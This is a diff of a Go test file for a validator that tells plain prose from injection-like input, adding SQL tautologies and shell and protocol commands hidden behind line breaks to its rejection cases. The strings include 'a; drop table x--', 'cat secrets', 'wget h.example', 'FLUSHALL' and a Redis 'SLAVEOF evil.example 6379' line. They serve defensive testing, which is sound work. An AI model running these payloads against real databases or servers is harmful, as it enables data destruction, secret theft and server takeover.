@@ -129,7 +129,7 @@ func TestHonest(t *testing.T) {
 }
 
 func TestProse(t *testing.T) {
-	for _, text := range []string{"union was a great select", "john+or@var.es", "JavaScript: Basics of the language", "zsh is the best!", "12, Rue de l'Eglise (2nd floor)", "ls 300 lexus", "Anna, Ben and Carl; see you", "3.5 or 4", "well-known", "union%20was%20a%20great%20select",
+	for _, text := range []string{"union was a great select", "john+or@var.es", "JavaScript: Basics of the language", "zsh is the best!", "12, Rue de l'Eglise (2nd floor)", "ls 300 lexus", "Anna, Ben and Carl; see you", "well-known", "union%20was%20a%20great%20select",
 		"true or false?", "is it null or not, and why?", "She said “select” and then ‘union’ at last", "l’été à la plage", "between 5 and 6 people", "We like it; it is not null", "O'Neill & Sons", "Lee & Sons, Ltd.", "50% off; drop by", "100%", "5% less, 6% more", "I use ls\nand zsh a lot, but bash is nice too"} {
 		if !Prose(text) {
 			t.Errorf("%q is no prose", text)
@@ -137,7 +137,9 @@ func TestProse(t *testing.T) {
 	}
 	for _, text := range []string{"", "1 union select users from password", "a=b", "' or 1", "x'", "-1", "a;b", "a; drop table x--", "(a", "a)", "sleep(5)", "a\"b", "<b>", "a/b", "a\\b", "a|b", "$a", "--", "a -- b", "1 or 1=1", "a(b)", "1%20union%20select%20users%20from%20password", "a%3Db", "a%2520b", "%", "a%", "5%6", "5%27", "1% 2 or 3", "1% id or id", "1% union select users from password", "1% 1; drop table staff", "' '",
 		// Words that are an expression, a second query, a second statement or a command.
-		"null or true", "a or a is not null", "0 or id between 0 and 9", "false or not false", "1 union select user", "1 union all select user", "1 drop table staff", "1 shutdown", "name or name is null", "t.a like t.a",
+		"null or true", "a or a is not null", "0 or id between 0 and 9", "false or not false", "1 union select user", "1 union all select user", "1 drop table staff", "1 shutdown", "name or name is null", "t.a like t.a", "1 or 1", "5 or 6", "1 or id", "1, 1 or 1", "(1) or (1)", "1 - 0 or 1", "id ilike id", "0 or 1 in (1, 2)", "x order by 17", "1 or 1;", "id similar to name", "id isnull", "1 or 1 :: int",
+		// A command of a shell or a protocol behind a line break.
+		"Please see\ncat secrets", "hello there\nsleep 9", "hello\r\nAge: 5", "hello\r\nset k 0 0 5", "hello\r\nSLAVEOF evil.example 6379", "hello\nFLUSHALL",
 		"a\nwhoami", "wget h.example", "a & whoami", "a & Whoami", "a &Sons", "a& Sons", "1 & Id", "& Sons", "a & sons", "a & ",
 		// What some decoder takes for ASCII.
 		"＜script＞", "＇ or 1＝1", "\u02bc or 1 or \u02bc", "null\u00a0or\u00a0true", "null\u2028or\u3000true", "a\u2028whoami", "‘ or 1=1", "‘ or ’a’=’a", "a\xffb"} {
